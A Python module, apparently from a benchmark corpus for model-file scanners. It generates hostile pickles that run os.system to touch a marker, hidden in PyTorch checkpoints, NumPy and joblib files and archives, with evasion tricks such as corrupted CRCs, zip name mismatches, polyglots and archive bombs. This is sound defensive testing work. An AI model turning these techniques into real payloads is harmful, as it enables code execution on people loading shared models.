"""Malicious containers: payloads inside PyTorch zips and legacy files, NumPy files, archives."""

from __future__ import annotations

import io
import lzma
import pickletools
import struct
import zipfile
import zlib
from pathlib import Path

from benchmarks.corpus import technique
from benchmarks.corpus.pickleasm import marker, shell_call

DANGEROUS = "PICKLE-DANGEROUS-GLOBAL"


def payload(m: Path, *, protocol: int = 2) -> bytes:
    """The standard hostile pickle: os.system("touch marker")."""
    return shell_call("os", "system", m, protocol=protocol)


def torch_zip(
    data_pkl: bytes,
    *,
    folder: str = "archive",
    pkl_name: str = "data.pkl",
    compression: int = zipfile.ZIP_STORED,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A PyTorch-style zip archive with `data_pkl` as its pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        archive.writestr(f"{folder}/{pkl_name}", data_pkl)
        archive.writestr(f"{folder}/byteorder", "little")
        archive.writestr(f"{folder}/data/0", b"\x00" * 64)
        for name, data in (extra or {}).items():
            archive.writestr(f"{folder}/{name}", data)
        archive.writestr(f"{folder}/version", "3\n")
    return buffer.getvalue()


@technique("torch-zip-data-pkl", family="torch", filename="pytorch_model.bin")
def zip_data_pkl(m: Path) -> bytes:
    """The classic malicious PyTorch checkpoint: os.system in data.pkl."""
    return torch_zip(payload(m))


@technique("torch-zip-odd-folder", family="torch", filename="model.pt")
def zip_odd_folder(m: Path) -> bytes:
    """The archive folder is not `archive` and sits two levels deep."""
    return torch_zip(payload(m), folder="a/very/odd name")


@technique("torch-zip-extra-pickle-member", family="torch", filename="model.pt")
def zip_extra_member(m: Path) -> bytes:
    """data.pkl is clean; another member, not named .pkl, holds the payload."""
    import pickle

    return torch_zip(pickle.dumps({"a": 1}, protocol=2), extra={"extra/state": payload(m)})


@technique("torch-zip-deflated", family="torch", filename="model.pt")
def zip_deflated(m: Path) -> bytes:
    """data.pkl compressed with deflate."""
    return torch_zip(payload(m), compression=zipfile.ZIP_DEFLATED)


def _patch_crc(data: bytes, name: bytes) -> bytes:
    """Corrupt the CRC of member `name` in both local and central headers."""
    out = bytearray(data)
    for sig, crc_at, name_at in ((b"PK\x03\x04", 14, 30), (b"PK\x01\x02", 16, 46)):
        pos = out.find(sig)
        while pos >= 0:
            nlen = struct.unpack_from("<H", out, pos + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(out[pos + name_at : pos + name_at + nlen]) == name:
                struct.pack_into("<I", out, pos + crc_at, 0xDEADBEEF)
            pos = out.find(sig, pos + 4)
    return bytes(out)


@technique(
    "torch-zip-bad-crc",
    family="torch",
    filename="model.pt",
    advisory="CVE-2025-10156",
    expect=(DANGEROUS,),
)
def zip_bad_crc(m: Path) -> bytes:
    """The pickle member's CRC is wrong: scanners that trust zipfile stop; torch still loads."""
    return _patch_crc(torch_zip(payload(m)), b"archive/data.pkl")


@technique("torch-zip-duplicate-names", family="torch", filename="model.pt")
def zip_duplicate(m: Path) -> bytes:
    """Two members named data.pkl: a clean one first, the payload second."""
    import pickle
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", pickle.dumps({}, protocol=2))
            archive.writestr("archive/data.pkl", payload(m))
            archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


@technique(
    "torch-zip-local-name-mismatch",
    family="torch",
    filename="model.pt",
    advisory="CVE-2025-1944",
)
def zip_name_mismatch(m: Path) -> bytes:
    """The local header names the member differently from the central directory."""
    data = bytearray(torch_zip(payload(m)))
    pos = data.find(b"archive/data.pkl")  # first occurrence: the local header
    data[pos : pos + 16] = b"archive/data.pkX"
    return bytes(data)


@technique("torch-zip-flag-bits", family="torch", filename="model.pt", advisory="CVE-2025-1945")
def zip_flag_bits(m: Path) -> bytes:
    """General-purpose flag bits set (encrypted) in the directory; torch ignores them."""
    data = bytearray(torch_zip(payload(m)))
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        struct.pack_into("<H", data, pos + 8, 0x0001)
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


@technique("zip-in-zip", family="archive", filename="bundle.zip")
def zip_in_zip(m: Path) -> bytes:
    """A PyTorch checkpoint stored inside a plain zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("models/inner.pt", torch_zip(payload(m)))
    return buffer.getvalue()


@technique("torch-legacy-payload-in-object", family="torch", filename="model.pt")
def legacy_payload(m: Path) -> bytes:
    """Legacy torch.save layout (magic, protocol, sys info) with the payload as the object."""
    import pickle

    parts = [
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        payload(m),
        pickle.dumps([], protocol=2),
    ]
    return b"".join(parts)


@technique("torch-legacy-tar", family="torch", filename="model.tar")
def legacy_tar(m: Path) -> bytes:
    """The oldest torch.save layout: a tar with a `pickle` member holding the payload."""
    import pickle
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (
            ("sys_info", pickle.dumps({}, protocol=2)),
            ("pickle", payload(m)),
            ("storages", pickle.dumps(0, protocol=2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _npy_object(pickled: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    raw = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + pickled


@technique("numpy-npy-object-payload", family="numpy", filename="array.npy")
def npy_object(m: Path) -> bytes:
    """An object-dtype .npy whose data pickle runs os.system (numpy.load allow_pickle)."""
    return _npy_object(payload(m))


@technique("numpy-npz-object-member", family="numpy", filename="arrays.npz")
def npz_object(m: Path) -> bytes:
    """An .npz with one clean array and one hostile object array."""
    import numpy as np

    clean = io.BytesIO()
    np.save(clean, np.ones(3))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.npy", clean.getvalue())
        archive.writestr("b.npy", _npy_object(payload(m)))
    return buffer.getvalue()


@technique("numpy-npz-compressed-object", family="numpy", filename="arrays.npz")
def npz_compressed_object(m: Path) -> bytes:
    """savez_compressed-style: the hostile object array is deflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("b.npy", _npy_object(payload(m, protocol=4)))
    return buffer.getvalue()


@technique("polyglot-pickle-then-zip", family="torch", filename="model.pt")
def polyglot(m: Path) -> bytes:
    """A pickle at offset 0 that is also a valid zip at the end: torch.load runs the pickle."""
    import pickle

    return payload(m) + torch_zip(pickle.dumps({}, protocol=2))


# --- joblib and compressed streams ------------------------------------------------------------


def _joblib_bytes(obj: object, compress: object = 0) -> bytes:
    import tempfile

    import joblib

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "model.joblib"
        joblib.dump(obj, path, compress=compress)
        return path.read_bytes()


def _joblib_with_payload(m: Path, compress: object) -> bytes:
    """A real joblib dump of an array, then a hostile pickle that joblib's loop would load."""
    import bz2
    import gzip
    import lzma

    import numpy as np

    raw = _joblib_bytes({"weights": np.arange(6.0)}) + payload(m, protocol=4)
    if compress == "zlib":
        return zlib.compress(raw, 3)
    if compress == "gzip":
        return gzip.compress(raw)
    if compress == "bz2":
        return bz2.compress(raw)
    if compress == "xz":
        return lzma.compress(raw)
    if compress == "lzma":
        return lzma.compress(raw, format=lzma.FORMAT_ALONE)
    return raw


for _kind in ("none", "zlib", "gzip", "bz2", "xz", "lzma"):

    def _build_joblib(m: Path, kind: str = _kind) -> bytes:
        return _joblib_with_payload(m, kind)

    technique(f"joblib-{_kind}-payload-after-array", family="joblib", filename="model.joblib")(
        _build_joblib
    )


@technique("joblib-object-array-payload", family="joblib", filename="model.joblib")
def joblib_object_array(m: Path) -> bytes:
    """A joblib wrapper for an object array: joblib pickles its data inline, here hostile."""
    import numpy as np

    dump = _joblib_bytes({"o": np.array([1, "x"], dtype=object)})
    start = dump.index(b"ub\x80", 20) + 2  # the wrapper's BUILD; the nested pickle follows
    ops = list(pickletools.genops(io.BytesIO(dump[start:])))
    end = start + ops[-1][2] + 1  # genops stops at the nested pickle's STOP
    return dump[:start] + payload(m) + dump[end:]


@technique("gzip-pickle-renamed-bin", family="joblib", filename="pytorch_model.bin")
def gzip_pickle(m: Path) -> bytes:
    """A gzip-compressed pickle named like a checkpoint."""
    import gzip

    return gzip.compress(payload(m))


@technique("tar-gz-with-pickle", family="archive", filename="model.tar.gz")
def tar_gz(m: Path) -> bytes:
    """A gzip'd tar whose member is a hostile pickle."""
    import gzip
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        data = payload(m)
        info = tarfile.TarInfo("weights/model.pkl")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue())


@technique(
    "torch-zip-in-7z",
    family="archive",
    filename="model.7z",
    expect="ARCHIVE-UNSCANNABLE",
    advisory="nullifAI (ReversingLabs, 2025)",
)
def seven_zip(m: Path) -> bytes:
    """A 7z archive (the nullifAI models were 7z-compressed PyTorch files): not opened, flagged."""
    body = lzma.compress(torch_zip(payload(m)), format=lzma.FORMAT_ALONE)
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<QQI", 0, len(body), 0) + body


@technique("rar-archive", family="archive", filename="model.rar", expect="ARCHIVE-UNSCANNABLE")
def rar(m: Path) -> bytes:
    """A RAR 5 signature and a stored pickle: not opened, flagged."""
    return b"Rar!\x1a\x07\x01\x00" + payload(m)


@technique("tar-link-out", family="archive", filename="model.tar", expect="ARCHIVE-PATH-TRAVERSAL")
def tar_link_out(m: Path) -> bytes:
    """A tar whose member is a symbolic link to a path outside the archive."""
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo("model.pkl")
        info.type = tarfile.SYMTYPE
        info.linkname = str(marker(m))
        tar.addfile(info)
    return buffer.getvalue()


@technique("zip-nested-too-deep", family="archive", filename="bundle.zip", expect="ARCHIVE-BOMB")
def zip_deep(m: Path) -> bytes:
    """Zips nested six levels deep around a payload."""
    data = payload(m)
    for level in range(6):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(f"level{level}.bin", data)
        data = buffer.getvalue()
    return data


@technique(
    "zip-deflate-lies-about-size", family="archive", filename="bundle.zip", expect="ARCHIVE-BOMB"
)
def zip_lying_size(m: Path) -> bytes:
    """A deflated member that expands far past the size its directory entry declares."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", bytes(8 << 20))
    data = bytearray(buffer.getvalue())
    for sig, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = data.find(sig)
        struct.pack_into("<I", data, pos + at, 1000)
    return bytes(data)


@technique("zip-deflated-nested-checkpoint", family="archive", filename="bundle.zip")
def zip_deflated_nested(m: Path) -> bytes:
    """A malicious PyTorch checkpoint deflated inside an outer zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("inner.pt", torch_zip(payload(m)))
    return buffer.getvalue()


@technique("torch-storage-load-from-bytes-nested", family="torch", filename="model.pkl")
def load_from_bytes(m: Path) -> bytes:
    """torch.storage._load_from_bytes (allowlisted: storages pickle through it) given a hostile
    torch.save archive: it runs torch.load with weights_only=False on those bytes."""
    from benchmarks.corpus.pickleasm import binbytes, call, glob, program

    inner = torch_zip(payload(m))
    return program(call(glob("torch.storage", "_load_from_bytes"), binbytes(inner)), protocol=3)


@technique("torch-storage-load-from-bytes-protocol2", family="torch", filename="model.pkl")
def load_from_bytes_p2(m: Path) -> bytes:
    """The same through protocol 2's `_codecs.encode(text, 'latin1')` bytes."""
    from benchmarks.corpus.pickleasm import call, glob, program, uni

    inner = payload(m).decode("latin-1")
    data = call(glob("_codecs", "encode"), uni(inner), uni("latin1"))
    return program(call(glob("torch.storage", "_load_from_bytes"), data), protocol=2)
